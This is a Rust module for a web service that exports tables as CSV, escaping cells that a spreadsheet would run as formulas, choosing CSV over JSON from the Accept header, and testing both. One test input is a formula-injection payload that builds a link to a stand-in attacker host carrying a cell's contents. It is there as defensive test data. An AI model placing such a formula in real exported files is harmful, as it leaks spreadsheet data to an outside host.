//! Tables as files: CSV by RFC 4180, in which no cell is taken for a formula.
//!
//! A spreadsheet runs what begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and people choose what stands in a cell:
//! such a cell gets an apostrophe in front, as OWASP says.

use axum::http::{HeaderMap, HeaderValue, header};
use axum::response::{IntoResponse, Response};

/// What a file of ours is announced as.
const TYPE: HeaderValue = HeaderValue::from_static("text/csv; charset=utf-8; header=present");

/// One table as text.
pub fn table<'a>(head: &[&str], rows: impl IntoIterator<Item = Vec<String>> + 'a) -> String {
    let head = head.iter().map(ToString::to_string).collect();
    [head].into_iter().chain(rows).map(|cells| line(&cells)).collect()
}

fn line(cells: &[String]) -> String {
    let cells: Vec<String> = cells.iter().map(|text| cell(text)).collect();
    cells.join(",") + "\r\n"
}

fn cell(text: &str) -> String {
    // Programs that read Asian texts take the wide forms for the same signs.
    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    let mark = if is_formula { "'" } else { "" };
    if is_formula || text.contains([',', '"', '\r', '\n']) {
        format!("\"{mark}{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// An answer that a browser keeps under this name.
pub fn file(name: &'static str, table: String) -> Response {
    let mut response = table.into_response();
    response.headers_mut().insert(header::CONTENT_TYPE, TYPE);
    if let Ok(kept) = HeaderValue::from_str(&format!("attachment; filename=\"{name}\"")) {
        response.headers_mut().insert(header::CONTENT_DISPOSITION, kept);
    }
    response
}

/// Whether who asks takes CSV rather than JSON: it is named, and no worse than JSON is.
pub fn is_preferred(headers: &HeaderMap) -> bool {
    let all = headers.get_all(header::ACCEPT).iter().filter_map(|value| value.to_str().ok());
    let asked: Vec<(String, f32)> = all.flat_map(|text| text.split(',')).map(weighed).collect();
    let weight = |kind: &str| asked.iter().find(|(named, _)| named == kind).map(|(_, weight)| *weight);
    let json = weight("application/json").or_else(|| weight("application/*")).or_else(|| weight("*/*"));
    weight("text/csv").or_else(|| weight("text/*")).is_some_and(|csv| csv > 0.0 && csv >= json.unwrap_or(0.0))
}

/// A media type and how much it is wanted, 0 to 1.
fn weighed(text: &str) -> (String, f32) {
    let mut parts = text.split(';').map(str::trim);
    let kind = parts.next().unwrap_or_default().to_ascii_lowercase();
    let weight = parts.find_map(|part| part.strip_prefix("q=")).map_or(Some(1.0), |weight| weight.parse().ok());
    (kind, weight.unwrap_or(0.0))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_where_they_must_be_and_never_formulas() {
        for (text, wanted) in [
            ("", ""),
            ("ada@example.org", "ada@example.org"),
            ("a, b", "\"a, b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\r\nlines", "\"two\r\nlines\""),
            ("=HYPERLINK(\"https://evil.example/\"&A1)", "\"'=HYPERLINK(\"\"https://evil.example/\"\"&A1)\""),
            ("+1", "\"'+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("＝1", "\"'＝1\""),
            ("a=1", "a=1"),
        ] {
            assert_eq!(cell(text), wanted, "{text:?}");
        }
        let rows = vec![vec!["1".to_owned(), String::new()]];
        assert_eq!(table(&["a", "b"], rows), "a,b\r\n1,\r\n");
    }

    #[test]
    fn what_is_written_is_read_again_as_it_was_but_for_the_apostrophe() {
        let texts = ["", "plain", "a,b", "\"", "x\ny", "=1", "ü@", " -"];
        let line = table(&["head"; 8], [texts.iter().map(ToString::to_string).collect()]);
        let mut reader = csv::ReaderBuilder::new().from_reader(line.as_bytes());
        let read = reader.records().next().unwrap().unwrap();
        let wanted = texts.map(|text| if text == "=1" { "'=1" } else { text });
        assert_eq!(read.iter().collect::<Vec<_>>(), wanted);
    }

    #[test]
    fn who_names_csv_before_json_gets_it() {
        let asked = |text: &'static str| {
            let mut headers = HeaderMap::new();
            headers.insert(header::ACCEPT, HeaderValue::from_static(text));
            is_preferred(&headers)
        };
        for csv in ["text/csv", "Text/CSV; q=0.5", "text/csv, application/json;q=0.9", "text/csv, */*;q=0.1", "text/*"] {
            assert!(asked(csv), "{csv}");
        }
        for json in ["", "*/*", "application/json", "application/json, text/csv;q=0.9", "text/csv;q=0", "text/csv;q=x"] {
            assert!(!asked(json), "{json}");
        }
        assert!(!is_preferred(&HeaderMap::new()));
    }
}
